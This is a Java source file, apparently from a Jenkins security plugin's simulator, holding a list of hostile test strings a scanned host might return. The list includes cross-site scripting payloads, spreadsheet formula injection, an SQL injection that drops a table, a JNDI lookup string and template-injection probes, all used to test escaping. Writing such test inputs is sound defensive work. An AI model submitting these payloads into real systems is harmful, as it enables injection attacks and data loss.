package io.jenkins.plugins.securitycenter.simulator;

import java.util.List;

/** Texts that a scanned host may well send: markup, quotes, formulas, control characters. */
final class Hostile {
    static final List<String> TEXTS = List.of(
            "<script>alert('simulator')</script>",
            "\"><img src=x onerror=alert(1)>",
            "=HYPERLINK(\"http://example.com\",\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "'; DROP TABLE findings; --",
            "a,b;\"c\"\r\nd\te",
            "bell \u0007 escape \u001b[31m red \u0000 null",
            "emoji \uD83D\uDD25 right-to-left \u202E text \u00e4\u00f6\u00fc \u65e5\u672c\u8a9e",
            "]]> &amp; </plugin_output> <![CDATA[",
            "${jndi:ldap://example.com/a} #{7*7} {{7*7}}",
            "javascript:alert(1)",
            "\u2028line\u2029separators");

    private Hostile() {}

    static String text(long number) {
        return TEXTS.get((int) Math.floorMod(number, (long) TEXTS.size()));
    }
}
